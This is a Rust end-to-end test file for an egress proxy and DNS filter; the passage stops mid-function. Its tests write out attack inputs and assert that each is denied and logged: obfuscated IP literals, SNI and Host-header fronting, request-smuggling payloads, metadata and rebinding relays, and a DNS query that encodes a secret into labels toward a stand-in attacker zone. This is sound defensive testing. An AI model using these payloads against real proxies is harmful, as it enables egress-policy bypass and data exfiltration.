//! End-to-end tests of egress-proxy in the network test bed (DESIGN.md section 8).
//!
//! The proxy runs in the bed's host namespace, listening on the runner link (192.0.2.1);
//! clients run in the runner namespace. Allowed traffic must reach the bed's web servers;
//! every attack family of THREATS.md that concerns the proxy or DNS is tried, and each
//! attack asserts both that its target saw nothing (trap listeners, web servers, DNS
//! server, or a recorder on the host's loopback) and that a deny event was written.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;

use egress_proxy::audit::{AuditEvent, Kind, MemorySink, Source, Verdict};
use egress_proxy::limits::Limits;
use egress_proxy::origdst::{FixedTable, Origin};
use egress_proxy::server::Proxy;
use hickory_proto::op::{Message, MessageType, Query, ResponseCode};
use hickory_proto::rr::{Name, RData, RecordType};
use runner_agent_tests::netbed::{
    self, read_response, NetBed, RUNNER_IP, TRAP6_IP, TRAP_IPS, WEB2_IP, WEB6_IP, WEB_IP,
};
use runner_agent_tests::proxy_client::{
    answer_ips, closed, dns_query, exchange, https_get, tls_connector, tunnel, udp_dns, ProxyWorld,
    PROXY_DNS,
};
use runner_agent_tests::{enforce_policy, require_privilege};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream, UdpSocket};

const POLICY: &str = enforce_policy!(
    r#"    - host: allowed.test
    - host: "*.allowed.test"
    - host: second.test
      ports: [8080]
      methods: [GET]
      paths: ["/ok/**"]
"#
);

const EXPLICIT: SocketAddr = netbed::PROXY_HTTP;
const TLS: SocketAddr = netbed::PROXY_TLS;
const PLAIN: SocketAddr = netbed::PROXY_PLAIN;
const DNS: SocketAddr = PROXY_DNS;

type World = ProxyWorld;

fn world_with(limits: Limits) -> World {
    let bed = NetBed::new().expect("building the test bed");
    let w = World::start(bed, Proxy::builder().dns_listen(DNS).limits(limits));
    w.set_runner_policy(POLICY);
    w
}

fn world() -> World {
    world_with(Limits::default())
}

/// From the runner, sends a synthetic ClientHello naming `names` (split into records of
/// `record` bytes, written in `segment`-byte writes) to the transparent TLS listener as
/// if headed for `original`:443; true when the proxy then closes.
fn hello_to(
    w: &World,
    original: Ipv4Addr,
    names: &[&'static str],
    record: usize,
    segment: usize,
) -> bool {
    let table = w.origdst.clone();
    let hello = egress_proxy::tls::synthetic_client_hello(names, record);
    w.runner(async move {
        let mut stream = netbed::connect_redirected(
            &table,
            TLS,
            attacker(SocketAddr::new(IpAddr::V4(original), 443)),
        )
        .await
        .unwrap();
        stream.set_nodelay(true).unwrap();
        for chunk in hello.chunks(segment) {
            stream.write_all(chunk).await.unwrap();
            tokio::time::sleep(Duration::from_millis(1)).await;
        }
        closed(&mut stream).await
    })
}

/// From the runner: CONNECT `name`:443 through the explicit proxy, then an HTTPS GET
/// trusting the bed's certificate; returns the raw response.
fn https_via_connect(w: &World, name: &'static str) -> String {
    let ca = w.bed.ca_der().to_vec();
    w.runner(async move {
        let stream = tunnel(&format!("{name}:443")).await;
        https_get(stream, ca, name).await.unwrap()
    })
}

/// Opens a connection to a transparent listener after recording, in the fixed
/// original-destination table, that it was headed for `original`.
async fn transparent(
    listener: SocketAddr,
    table: Arc<FixedTable>,
    original: SocketAddr,
) -> TcpStream {
    netbed::connect_redirected(&table, listener, original)
        .await
        .unwrap()
}

/// The origin of a connection opened by the test's "attacker" process.
fn attacker(destination: SocketAddr) -> Origin {
    Origin {
        destination,
        pid: Some(31337),
        comm: Some("exfil".into()),
    }
}

// ---------------------------------------------------------------- allowed traffic

#[test]
fn allowed_http_through_the_forward_proxy() {
    require_privilege!();
    let w = world();
    let got = w.runner(exchange(
        "GET http://allowed.test/hello HTTP/1.1\r\nHost: allowed.test\r\n\r\n".into(),
    ));
    assert_eq!(got, Some((200, format!("hello from {WEB_IP}\n"))));
    let hits = w.bed.web_hits();
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].path, "/hello");
    assert_eq!(hits[0].host.as_deref(), Some("allowed.test"));
    let e = w.wait_event("allowed request", |e| {
        e.kind == Kind::Http && e.verdict == Verdict::Allow
    });
    assert_eq!(e.host.as_deref(), Some("allowed.test"));
    assert_eq!(e.ip, Some(IpAddr::V4(WEB_IP)));
    assert_eq!(
        (e.method.as_deref(), e.path.as_deref()),
        (Some("GET"), Some("/hello"))
    );
    assert_eq!(e.rule.as_deref(), Some("allow[0] allowed.test"));
    assert_eq!(
        e.bytes_down,
        Some(format!("hello from {WEB_IP}\n").len() as u64)
    );
    assert_eq!(
        (e.job.as_deref(), e.runner.as_deref()),
        (Some("j-1"), Some("r-1"))
    );
    assert_eq!(e.source, Source::Proxy);
}

#[test]
fn allowed_https_through_connect() {
    require_privilege!();
    let w = world();
    let body = https_via_connect(&w, "api.allowed.test");
    assert!(body.contains(&format!("hello from {WEB_IP}")), "{body}");
    let hits = w.bed.web_hits();
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].sni.as_deref(), Some("api.allowed.test"));
    let e = w.wait_event("tunnel end", |e| {
        e.kind == Kind::Connect && e.verdict == Verdict::Allow
    });
    assert_eq!(e.host.as_deref(), Some("api.allowed.test"));
    assert!(
        e.bytes_up.unwrap() > 0 && e.bytes_down.unwrap() > 0,
        "{e:?}"
    );
    assert!(e.duration_ms.is_some());
}

#[test]
fn allowed_https_through_the_transparent_tls_listener() {
    require_privilege!();
    let w = world();
    let ca = w.bed.ca_der().to_vec();
    let table = w.origdst.clone();
    let body = w.runner(async move {
        let origin = netbed::curl_origin(SocketAddr::new(IpAddr::V4(WEB_IP), 443));
        let stream = netbed::connect_redirected(&table, TLS, origin)
            .await
            .unwrap();
        https_get(stream, ca, "allowed.test").await.unwrap()
    });
    assert!(body.contains(&format!("hello from {WEB_IP}")), "{body}");
    assert_eq!(w.bed.web_hits()[0].sni.as_deref(), Some("allowed.test"));
    let e = w.wait_event("tls end", |e| {
        e.kind == Kind::Tls && e.verdict == Verdict::Allow
    });
    assert_eq!(
        (e.host.as_deref(), e.ip, e.port),
        (Some("allowed.test"), Some(IpAddr::V4(WEB_IP)), Some(443))
    );
    // The connecting process, as the original-destination lookup reported it.
    assert_eq!((e.pid, e.comm.as_deref()), (Some(4242), Some("curl")));
}

#[test]
fn allowed_http_through_the_transparent_http_listener() {
    require_privilege!();
    let w = world();
    let table = w.origdst.clone();
    let got = w.runner(async move {
        let mut stream = transparent(PLAIN, table, SocketAddr::new(IpAddr::V4(WEB_IP), 80)).await;
        stream
            .write_all(b"GET /plain HTTP/1.1\r\nHost: api.allowed.test\r\n\r\n")
            .await
            .unwrap();
        read_response(&mut stream).await
    });
    assert_eq!(got, Some((200, format!("hello from {WEB_IP}\n"))));
    assert_eq!(
        w.bed.web_hits()[0].host.as_deref(),
        Some("api.allowed.test")
    );
    w.wait_event("plain allow", |e| {
        e.kind == Kind::Http && e.verdict == Verdict::Allow
    });
}

#[test]
fn methods_and_paths_are_enforced_on_plain_http() {
    require_privilege!();
    let w = world();
    let get = |method: &str, path: &str| {
        format!("{method} http://second.test:8080{path} HTTP/1.1\r\nHost: second.test:8080\r\nContent-Length: 0\r\n\r\n")
    };
    assert_eq!(
        w.runner(exchange(get("GET", "/ok/file"))).map(|r| r.0),
        Some(200)
    );
    assert_eq!(
        w.runner(exchange(get("POST", "/ok/file"))).map(|r| r.0),
        Some(403)
    );
    assert_eq!(
        w.runner(exchange(get("GET", "/other"))).map(|r| r.0),
        Some(403)
    );
    assert_eq!(
        w.runner(exchange(get("GET", "/ok/../other"))).map(|r| r.0),
        Some(403)
    );
    let hits = w.bed.web_hits();
    assert_eq!(hits.len(), 1, "{hits:?}");
    assert_eq!(
        (hits[0].local.ip(), hits[0].path.as_str()),
        (IpAddr::V4(WEB2_IP), "/ok/file")
    );
    w.deny_event("POST", |e| {
        e.reason.as_deref() == Some("method not allowed")
    });
    w.deny_event("path", |e| {
        e.reason.as_deref() == Some("path not allowed") && e.path.as_deref() == Some("/other")
    });
    // A tunnel would hide the method and path: denied.
    let status = w.runner(exchange("CONNECT second.test:8080 HTTP/1.1\r\n\r\n".into()));
    assert_eq!(status.map(|r| r.0), Some(403));
    w.deny_event("opaque tunnel", |e| {
        e.kind == Kind::Connect && e.host.as_deref() == Some("second.test")
    });
}

// ---------------------------------------------------------------- name versus address

#[test]
fn address_literals_in_every_spelling_are_denied() {
    require_privilege!();
    let w = world();
    for target in [
        "203.0.113.10:443",
        "0xcb.0.0x71.10:443",
        "3405803786:443",
        "0313.0.0161.012:443",
        "203.0.28938:443",
        "[::ffff:203.0.113.10]:443",
        "[::ffff:cb00:710a]:443",
    ] {
        let got = w.runner(exchange(format!("CONNECT {target} HTTP/1.1\r\n\r\n")));
        assert_eq!(got.map(|r| r.0), Some(403), "{target}");
    }
    let got = w.runner(exchange(
        "GET http://3405803786/ HTTP/1.1\r\nHost: 3405803786\r\n\r\n".into(),
    ));
    assert_eq!(got.map(|r| r.0), Some(403));
    w.assert_nothing_reached("address literals");
    let literal = |e: &AuditEvent| {
        e.verdict == Verdict::Deny && e.reason.as_deref() == Some("address literal not allowed")
    };
    let denials = w.wait_events(8, literal);
    assert_eq!(denials.len(), 8, "{denials:#?}");
    assert!(denials
        .iter()
        .all(|e| e.ip == Some(IpAddr::V4(TRAP_IPS[0]))));
}

#[test]
fn sni_must_equal_the_connect_host() {
    require_privilege!();
    let w = world();
    let closed_early = w.runner(async {
        let mut stream = netbed::connect(EXPLICIT).await.unwrap();
        stream
            .write_all(b"CONNECT allowed.test:443 HTTP/1.1\r\n\r\n")
            .await
            .unwrap();
        assert_eq!(read_response(&mut stream).await.map(|r| r.0), Some(200));
        let hello = egress_proxy::tls::synthetic_client_hello(&["evil.test"], 16_384);
        stream.write_all(&hello).await.unwrap();
        closed(&mut stream).await
    });
    assert!(closed_early);
    let e = w.deny_event("SNI mismatch", |e| e.kind == Kind::Connect);
    assert!(e.reason.as_deref().unwrap().contains("evil.test"), "{e:?}");
    assert_eq!(e.host.as_deref(), Some("allowed.test"));
    w.assert_nothing_reached("SNI mismatch");
}

#[test]
fn sni_of_an_allowed_name_toward_another_address_is_denied() {
    require_privilege!();
    let w = world();
    assert!(hello_to(&w, TRAP_IPS[0], &["allowed.test"], 16_384, 16_384));
    let e = w.deny_event("SNI toward attacker", |e| e.kind == Kind::Tls);
    assert_eq!(
        e.reason.as_deref(),
        Some("destination address is not an address of the name")
    );
    assert_eq!(e.ip, Some(IpAddr::V4(TRAP_IPS[0])));
    assert_eq!((e.pid, e.comm.as_deref()), (Some(31337), Some("exfil")));
    w.assert_nothing_reached("SNI toward attacker");
}

#[test]
fn transparent_tls_without_sni_or_with_a_denied_sni_is_refused() {
    require_privilege!();
    let w = world();
    for names in [&[][..], &["evil.test"][..], &["203.0.113.10"][..]] {
        assert!(
            hello_to(&w, TRAP_IPS[0], names, 16_384, 16_384),
            "{names:?}"
        );
    }
    w.deny_event("no SNI", |e| e.reason.as_deref() == Some("no SNI"));
    w.deny_event("evil SNI", |e| {
        e.host.as_deref() == Some("evil.test") && e.reason.as_deref() == Some("host not allowed")
    });
    w.deny_event("address SNI", |e| {
        e.reason.as_deref() == Some("SNI is not a host name")
    });
    w.assert_nothing_reached("transparent TLS");
}

#[test]
fn a_split_client_hello_is_reassembled() {
    require_privilege!();
    let w = world();
    // Allowed name, hello split into 5-byte records sent in 3-byte segments: the proxy
    // must reassemble it and let it through to the allowed server.
    let sent = egress_proxy::tls::synthetic_client_hello(&["api.allowed.test"], 5).len() as u64;
    // The synthetic hello offers nothing the server accepts; it answers with an alert
    // and closes.
    assert!(hello_to(&w, WEB_IP, &["api.allowed.test"], 5, 3));
    let e = w.wait_event("split allowed", |e| {
        e.kind == Kind::Tls && e.verdict == Verdict::Allow
    });
    assert_eq!(e.host.as_deref(), Some("api.allowed.test"));
    assert_eq!(e.bytes_up, Some(sent));
    // The same split with a denied name goes nowhere.
    assert!(hello_to(&w, TRAP_IPS[0], &["evil.test"], 5, 3));
    w.deny_event("split denied", |e| {
        e.kind == Kind::Tls && e.host.as_deref() == Some("evil.test")
    });
    assert!(w.bed.trap_hits().is_empty());
}

#[test]
fn host_header_fronting_and_shared_address_tenants_are_denied() {
    require_privilege!();
    let w = world();
    // Explicit proxy: the Host header names another host than the target.
    let got = w.runner(exchange(
        "GET http://allowed.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n".into(),
    ));
    assert_eq!(got.map(|r| r.0), Some(403));
    w.deny_event("host mismatch", |e| {
        e.reason.as_deref() == Some("Host header differs from the request target")
    });
    // Transparent HTTP toward the allowed server's address, asking for another tenant.
    let table = w.origdst.clone();
    let got = w.runner(async move {
        let mut stream = transparent(PLAIN, table, SocketAddr::new(IpAddr::V4(WEB_IP), 80)).await;
        stream
            .write_all(b"GET / HTTP/1.1\r\nHost: tenant.test\r\n\r\n")
            .await
            .unwrap();
        read_response(&mut stream).await
    });
    assert_eq!(got.map(|r| r.0), Some(403));
    w.deny_event("tenant", |e| e.host.as_deref() == Some("tenant.test"));
    // Transparent HTTP with an allowed Host toward an attacker's address.
    let table = w.origdst.clone();
    let got = w.runner(async move {
        let mut stream =
            transparent(PLAIN, table, SocketAddr::new(IpAddr::V4(TRAP_IPS[0]), 80)).await;
        stream
            .write_all(b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
            .await
            .unwrap();
        read_response(&mut stream).await
    });
    assert_eq!(got.map(|r| r.0), Some(403));
    w.deny_event("allowed Host, wrong address", |e| {
        e.reason.as_deref() == Some("destination address is not an address of the name")
    });
    // Reverse-DNS names are names like any other: not allowed.
    let got = w.runner(exchange(
        "CONNECT 10.113.0.203.in-addr.arpa:443 HTTP/1.1\r\n\r\n".into(),
    ));
    assert_eq!(got.map(|r| r.0), Some(403));
    w.deny_event("reverse name", |e| {
        e.host.as_deref() == Some("10.113.0.203.in-addr.arpa")
    });
    w.assert_nothing_reached("fronting");
}

// ---------------------------------------------------------------- keep-alive and parsing

#[test]
fn every_request_on_a_keep_alive_connection_is_checked() {
    require_privilege!();
    let w = world();
    let (first, second, third) = w.runner(async {
        let mut stream = netbed::connect(EXPLICIT).await.unwrap();
        stream
            .write_all(b"GET http://allowed.test/one HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
            .await
            .unwrap();
        let first = read_response(&mut stream).await;
        stream
            .write_all(b"GET http://evil.test/two HTTP/1.1\r\nHost: evil.test\r\n\r\n")
            .await
            .unwrap();
        let second = read_response(&mut stream).await;
        stream
            .write_all(b"GET http://203.0.113.10/three HTTP/1.1\r\nHost: 203.0.113.10\r\n\r\n")
            .await
            .unwrap();
        let third = read_response(&mut stream).await;
        (first, second, third)
    });
    assert_eq!(first.map(|r| r.0), Some(200));
    assert_eq!(second.map(|r| r.0), Some(403));
    assert_eq!(third.map(|r| r.0), Some(403));
    w.deny_event("second request", |e| {
        e.host.as_deref() == Some("evil.test") && e.path.as_deref() == Some("/two")
    });
    w.deny_event("third request", |e| e.path.as_deref() == Some("/three"));
    assert!(w.bed.trap_hits().is_empty(), "{:?}", w.bed.trap_hits());
    assert_eq!(w.bed.web_hits().len(), 1);
}

#[test]
fn conflicting_content_length_and_transfer_encoding_cannot_smuggle() {
    require_privilege!();
    let w = world();
    // Both framings at once: refused (RFC 9112 section 6.1 allows it) with a deny event,
    // and the connection is closed, so the bytes after the body are never read as a
    // request and never reach evil.test.
    let statuses = w.runner(async {
        let mut stream = netbed::connect(EXPLICIT).await.unwrap();
        stream
            .write_all(
                b"POST http://allowed.test/upload HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://evil.test/smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n",
            )
            .await
            .unwrap();
        let mut statuses = Vec::new();
        while let Some((status, _)) = read_response(&mut stream).await {
            statuses.push(status);
        }
        statuses
    });
    assert_eq!(statuses, vec![400]);
    let e = w.deny_event("conflicting framing", |e| {
        e.reason.as_deref() == Some("both Content-Length and Transfer-Encoding")
    });
    assert_eq!(e.path.as_deref(), Some("/upload"));
    assert!(w
        .events()
        .iter()
        .all(|e| e.host.as_deref() != Some("evil.test")));
    assert!(w.bed.trap_hits().is_empty());
    assert!(w.bed.web_hits().is_empty(), "{:?}", w.bed.web_hits());
    // The same framing headers in two different requests are no conflict.
    let got = w.runner(exchange(
        "POST http://allowed.test/upload HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n".into(),
    ));
    assert_eq!(got.map(|r| r.0), Some(200));
    let upload = w.wait_event("chunked upload", |e| e.verdict == Verdict::Allow);
    assert_eq!(upload.bytes_up, Some(3));
    // Obfuscated Transfer-Encoding and two different Content-Length values: refused
    // outright and recorded as denials.
    for request in [
        "POST http://allowed.test/x HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab",
        "POST http://allowed.test/y HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
        "POST http://allowed.test/z HTTP/1.0\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    ] {
        let got = w.runner(exchange(request.to_owned()));
        assert_ne!(got.map(|r| r.0), Some(200), "{request}");
    }
    let malformed = w.wait_events(3, |e| {
        e.verdict == Verdict::Deny
            && e.reason
                .as_deref()
                .is_some_and(|r| r.starts_with("malformed request"))
    });
    assert_eq!(malformed.len(), 3, "{:#?}", w.events());
    assert!(w.bed.web_hits().iter().all(|h| h.path == "/upload"));
}

#[test]
fn oversized_and_endless_heads_close_only_that_connection() {
    require_privilege!();
    let limits = Limits {
        header_timeout: Duration::from_secs(1),
        ..Limits::default()
    };
    let w = world_with(limits);
    let big = w.runner(async {
        let mut stream = netbed::connect(EXPLICIT).await.unwrap();
        let filler = "a".repeat(100 * 1024);
        let request = format!(
            "GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nX-Fill: {filler}\r\n\r\n"
        );
        let _ = stream.write_all(request.as_bytes()).await;
        read_response(&mut stream).await.map(|r| r.0)
    });
    assert_ne!(big, Some(200));
    w.deny_event("oversized head", |e| {
        e.reason
            .as_deref()
            .is_some_and(|r| r.starts_with("malformed request"))
    });
    let many = w.runner(async {
        let mut stream = netbed::connect(EXPLICIT).await.unwrap();
        let headers: String = (0..500).map(|i| format!("X-H{i}: v\r\n")).collect();
        let request =
            format!("GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n{headers}\r\n");
        let _ = stream.write_all(request.as_bytes()).await;
        read_response(&mut stream).await.map(|r| r.0)
    });
    assert_ne!(many, Some(200));
    let slow_closed = w.runner(async {
        let mut stream = netbed::connect(EXPLICIT).await.unwrap();
        stream
            .write_all(b"GET http://allowed.test/ HTTP/1.1\r\nX-Slow: ")
            .await
            .unwrap();
        let started = std::time::Instant::now();
        for _ in 0..30 {
            if stream.write_all(b"a").await.is_err() {
                break;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        let closed = closed(&mut stream).await;
        (closed, started.elapsed())
    });
    assert!(slow_closed.0, "slow head not closed");
    assert!(slow_closed.1 < Duration::from_secs(8));
    // The proxy still serves others.
    let got = w.runner(exchange(
        "GET http://allowed.test/after HTTP/1.1\r\nHost: allowed.test\r\n\r\n".into(),
    ));
    assert_eq!(got.map(|r| r.0), Some(200));
    assert!(
        w.bed.web_hits().iter().all(|h| h.path == "/after"),
        "{:?}",
        w.bed.web_hits()
    );
}

#[test]
fn garbage_never_takes_the_proxy_down() {
    require_privilege!();
    let w = world();
    let inputs: Vec<Vec<u8>> = vec![
        b"\x00\x01\x02\x03garbage\r\n\r\n".to_vec(),
        b"CONNECT\r\n\r\n".to_vec(),
        b"CONNECT :443 HTTP/1.1\r\n\r\n".to_vec(),
        b"GET http://[::1 HTTP/1.1\r\n\r\n".to_vec(),
        b"GET http://user@allowed.test/ HTTP/1.1\r\n\r\n".to_vec(),
        vec![0x16, 3, 1, 0xff, 0xff, 1, 0, 0],
        b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n".to_vec(),
    ];
    for input in inputs {
        let _ = w.runner(async move {
            let mut stream = netbed::connect(EXPLICIT).await.unwrap();
            let _ = stream.write_all(&input).await;
            read_response(&mut stream).await
        });
    }
    let got = w.runner(exchange(
        "GET http://allowed.test/alive HTTP/1.1\r\nHost: allowed.test\r\n\r\n".into(),
    ));
    assert_eq!(got.map(|r| r.0), Some(200));
    assert!(w.bed.trap_hits().is_empty());
    assert!(
        w.events()
            .iter()
            .filter(|e| e.verdict == Verdict::Deny)
            .count()
            >= 5,
        "{:#?}",
        w.events()
    );
}

// ---------------------------------------------------------------- internal addresses

#[test]
fn the_proxy_is_no_relay_into_internal_addresses() {
    require_privilege!();
    let w = world();
    // A service on the host's loopback, where the proxy itself could reach it.
    let recorder = w.bed.host().run(async {
        let listener = TcpListener::bind("127.0.0.1:443").await.unwrap();
        let hits = Arc::new(std::sync::atomic::AtomicUsize::new(0));
        let counter = hits.clone();
        tokio::spawn(async move {
            while listener.accept().await.is_ok() {
                counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            }
        });
        hits
    });
    for (target, reason) in [
        ("127.0.0.1:443", "address literal not allowed"),
        ("rebind.allowed.test:443", "internal address"),
        ("metadata.allowed.test:80", "internal address"),
        ("private.allowed.test:443", "internal address"),
        ("runner.allowed.test:443", "internal address"),
        ("[::1]:443", "address literal not allowed"),
        ("192.0.2.1:3128", "address literal not allowed"),
    ] {
        let got = w.runner(exchange(format!("CONNECT {target} HTTP/1.1\r\n\r\n")));
        assert_eq!(got.map(|r| r.0), Some(403), "{target}");
        let host = target.rsplit_once(':').unwrap().0.to_owned();
        w.deny_event(target, |e| {
            e.reason.as_deref() == Some(reason)
                && (e.host.as_deref() == Some(host.as_str()) || e.ip.is_some())
        });
    }
    let got = w.runner(exchange(
        "GET http://rebind.allowed.test:443/ HTTP/1.1\r\nHost: rebind.allowed.test:443\r\n\r\n"
            .into(),
    ));
    assert_eq!(got.map(|r| r.0), Some(403));
    std::thread::sleep(Duration::from_millis(100));
    assert_eq!(recorder.load(std::sync::atomic::Ordering::SeqCst), 0);
    w.assert_nothing_reached("internal relay");
}

#[test]
fn unknown_clients_get_nothing_and_connections_per_client_are_capped() {
    require_privilege!();
    let limits = Limits {
        max_conns_per_client: 3,
        ..Limits::default()
    };
    let w = world_with(limits);
    // From the host namespace itself: the source address is not a registered runner.
    let closed_early = w.bed.host().run(async {
        let mut stream = netbed::connect(EXPLICIT).await.unwrap();
        let _ = stream
            .write_all(b"GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
            .await;
        closed(&mut stream).await
    });
    assert!(closed_early);
    w.deny_event("unknown client", |e| {
        e.reason.as_deref() == Some("unknown client 192.0.2.1")
    });
    let refused = w.runner(async {
        let mut held = Vec::new();
        for _ in 0..3 {
            held.push(netbed::connect(EXPLICIT).await.unwrap());
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
        let mut fourth = netbed::connect(EXPLICIT).await.unwrap();
        let _ = fourth
            .write_all(b"GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
            .await;
        let refused = closed(&mut fourth).await;
        drop(held);
        refused
    });
    assert!(refused);
    w.deny_event("too many", |e| {
        e.reason.as_deref() == Some("too many connections from this client")
    });
    assert!(w.bed.web_hits().is_empty());
}

// ---------------------------------------------------------------- DNS

#[test]
fn dns_answers_allowed_names_and_nothing_else() {
    require_privilege!();
    let w = world();
    let reply = w
        .runner(udp_dns(dns_query(1, "api.allowed.test.", RecordType::A)))
        .unwrap();
    assert_eq!(reply.response_code(), ResponseCode::NoError);
    assert_eq!(answer_ips(&reply), vec![IpAddr::V4(WEB_IP)]);
    w.wait_event("dns allow", |e| {
        e.source == Source::Dns && e.verdict == Verdict::Allow
    });
    // Data encoded in labels toward an attacker's zone: answered locally.
    let reply = w
        .runner(udp_dns(dns_query(
            2,
            "c2VjcmV0LXRva2Vu.exfil.evil.test.",
            RecordType::A,
        )))
        .unwrap();
    assert_eq!(reply.response_code(), ResponseCode::NXDomain);
    w.deny_event("exfil query", |e| {
        e.source == Source::Dns && e.host.as_deref() == Some("c2vjcmv0lxrva2vu.exfil.evil.test")
    });
    // Other record types of an allowed name are not served nor forwarded.
    for rtype in [
        RecordType::TXT,
        RecordType::NULL,
        RecordType::ANY,
        RecordType::MX,
    ] {
        let reply = w
            .runner(udp_dns(dns_query(3, "allowed.test.", rtype)))
            .unwrap();
        assert_eq!(reply.response_code(), ResponseCode::NoError);
        assert!(reply.answers().is_empty());
    }
    w.deny_event("txt", |e| {
        e.reason.as_deref() == Some("record type TXT not served")
    });
    let upstream = w.bed.dns_hits();
    assert!(
        upstream
            .iter()
            .all(|q| q.name == "api.allowed.test" && q.rtype == "A"),
        "{upstream:?}"
    );
}

#[test]
fn dns_rebinding_answers_are_stripped() {
    require_privilege!();
    let w = world();
    let reply = w
        .runner(udp_dns(dns_query(9, "rebind.allowed.test.", RecordType::A)))
        .unwrap();
    assert!(answer_ips(&reply).is_empty(), "{reply:?}");
    let e = w.deny_event("rebinding", |e| {
        e.reason.as_deref() == Some("answer points to an internal address")
    });
    assert_eq!(e.ip, Some(IpAddr::V4(Ipv4Addr::LOCALHOST)));
}

#[test]
fn dns_over_tcp_checks_every_pipelined_message() {
    require_privilege!();
    let w = world();
    let answers = w.runner(async {
        let mut stream = netbed::connect(DNS).await.unwrap();
        let mut segment = Vec::new();
        for (id, name) in [
            (1u16, "allowed.test."),
            (2, "secret.evil.test."),
            (3, "x.exfil.evil.test."),
        ] {
            let wire = dns_query(id, name, RecordType::A);
            segment.extend_from_slice(&(wire.len() as u16).to_be_bytes());
            segment.extend_from_slice(&wire);
        }
        stream.write_all(&segment).await.unwrap();
        let mut answers = Vec::new();
        for _ in 0..3 {
            let len = stream.read_u16().await.unwrap();
            let mut buf = vec![0u8; usize::from(len)];
            stream.read_exact(&mut buf).await.unwrap();
            let m = Message::from_vec(&buf).unwrap();
            answers.push((m.id(), m.response_code()));
        }
        answers
    });
    answers.iter().for_each(|a| assert!(a.0 >= 1 && a.0 <= 3));
    let code = |id| answers.iter().find(|a| a.0 == id).unwrap().1;
    assert_eq!(code(1), ResponseCode::NoError);
    assert_eq!(code(2), ResponseCode::NXDomain);
    assert_eq!(code(3), ResponseCode::NXDomain);
    w.deny_event("pipelined", |e| {
        e.host.as_deref() == Some("secret.evil.test")
    });
    w.deny_event("pipelined 3", |e| {
        e.host.as_deref() == Some("x.exfil.evil.test")
    });
    assert!(
        w.bed.dns_hits().iter().all(|q| q.name == "allowed.test"),
        "{:?}",
        w.bed.dns_hits()
    );
}

/// DNS over TCP beyond the per-client cap, and a partial message left hanging, each leave
/// a deny event: a query the filter never reads must not vanish from the log.
#[test]
fn dns_over_tcp_past_the_cap_and_partial_messages_are_recorded() {
    require_privilege!();
    let w = world_with(Limits {
        max_dns_tcp_per_client: 2,
        header_timeout: Duration::from_millis(500),
        ..Limits::default()
    });
    let refused = w.runner(async {
        // Two connections hold the cap with half a message each.
        let mut held = Vec::new();
        for _ in 0..2 {
            let mut stream = netbed::connect(DNS).await.unwrap();
            stream.write_all(&[0x00, 0x40, b'a', b'b']).await.unwrap();
            held.push(stream);
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
        // A third one's query is never read: no answer.
        let mut extra = netbed::connect(DNS).await.unwrap();
        let wire = dns_query(7, "leak.evil.test.", RecordType::A);
        let mut framed = (wire.len() as u16).to_be_bytes().to_vec();
        framed.extend_from_slice(&wire);
        let _ = extra.write_all(&framed).await;
        let answered = tokio::time::timeout(Duration::from_secs(2), extra.read_u16()).await;
        // Keep the held ones open past the header timeout.
        tokio::time::sleep(Duration::from_millis(800)).await;
        drop(held);
        !matches!(answered, Ok(Ok(_)))
    });
    assert!(refused, "the query past the cap was answered");
    w.deny_event("over the cap", |e| {
        e.reason.as_deref() == Some("too many DNS connections from this client")
    });
    let partial = w.wait_events(2, |e| {
        e.verdict == Verdict::Deny && e.reason.as_deref() == Some("incomplete DNS message over TCP")
    });
    assert_eq!(partial.len(), 2);
    assert!(w.bed.dns_hits().is_empty(), "{:?}", w.bed.dns_hits());
}

#[test]
fn dns_shaped_responses_and_outside_resolvers_go_nowhere() {
    require_privilege!();
    let w = world();
    // A packet shaped like a DNS response, sent to the filter.
    let mut forged = Message::new();
    forged
        .set_id(7)
        .set_message_type(MessageType::Response)
        .add_query(Query::query(
            Name::from_ascii("allowed.test.").unwrap(),
            RecordType::A,
        ));
    assert!(w.runner(udp_dns(forged.to_vec().unwrap())).is_none());
    w.deny_event("response to filter", |e| {
        e.reason.as_deref() == Some("DNS response sent to the filter")
    });
    // DNS over TCP, TLS (853) or HTTPS to an outside resolver, through the proxy.
    for target in [
        "203.0.113.10:53",
        "203.0.113.10:853",
        "203.0.113.10:443",
        "evil.test:443",
    ] {
        let got = w.runner(exchange(format!("CONNECT {target} HTTP/1.1\r\n\r\n")));
        assert_eq!(got.map(|r| r.0), Some(403), "{target}");
    }
    w.deny_event("dot", |e| e.port == Some(853));
    w.deny_event("doh by name", |e| e.host.as_deref() == Some("evil.test"));
    // Malformed messages are answered FORMERR or dropped, never forwarded.
    assert!(w
        .runner(udp_dns(vec![
            0xde, 0xad, 0xbe, 0xef, 0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0, 1, 2, 3
        ]))
        .is_some_and(|m| m.response_code() == ResponseCode::FormErr));
    w.assert_nothing_reached("dns channel");
    assert!(w.bed.dns_hits().is_empty(), "{:?}", w.bed.dns_hits());
}

#[test]
fn the_control_channel_registers_clients() {
    require_privilege!();
    let bed = NetBed::new().unwrap();
    let dir = tempfile::tempdir().unwrap();
